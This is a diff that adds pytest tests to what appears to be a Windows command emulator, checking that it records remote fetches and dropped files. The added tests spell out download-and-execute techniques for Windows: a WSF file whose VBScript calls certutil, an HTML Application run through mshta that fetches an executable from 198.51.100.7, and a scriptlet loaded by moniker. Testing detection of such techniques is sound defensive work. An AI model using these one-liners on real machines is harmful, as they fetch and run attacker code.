@@ -222,3 +222,29 @@ def test_ftp_that_is_typed() -> None:
         told.run(line)
         assert told.shell.prompt() == prompt
     assert told.file("x.exe") == PROGRAM
+
+
+def test_a_job_and_a_page_have_their_script_inside() -> None:
+    told = Told(outside={URL: PROGRAM})
+    told.run(
+        "echo ^<package^>^<job id='code1'^>^<script language='VBScript'^>set x=CreateObject(\"WScript.Shell\") > a.wsf"
+    )
+    told.run(f'echo x.Run "cmd /c certutil -urlcache -f {URL} y.exe"^</script^>^</job^>^</package^> >> a.wsf')
+    told.run("cscript a.wsf")
+    assert told.wished == [URL]
+    page = (
+        b"<html><body><script>var a='x';</script><script language=\"JScript\">new ActiveXObject('WScript.Shell')"
+        b".Run('certutil -urlcache -f http://198.51.100.7/a/x.exe z.exe');</script></body></html>"
+    )
+    told = Told(outside={"http://198.51.100.7/a.hta": page, URL: PROGRAM})
+    told.run("mshta http://198.51.100.7/a.hta")
+    assert told.file("z.exe") == PROGRAM
+
+
+def test_a_scriptlet_by_its_moniker() -> None:
+    sct = (
+        f'<scriptlet><script language=\'VBScript\'>CreateObject("WScript.Shell").Run "mshta {URL}"</script></scriptlet>'
+    )
+    told = Told(outside={"http://198.51.100.7/b.sct": sct.encode(), URL: b""})
+    told.run('mshta javascript:a=GetObject("script:http://198.51.100.7/b.sct").Exec();close();')
+    assert told.wished == ["http://198.51.100.7/b.sct", URL]
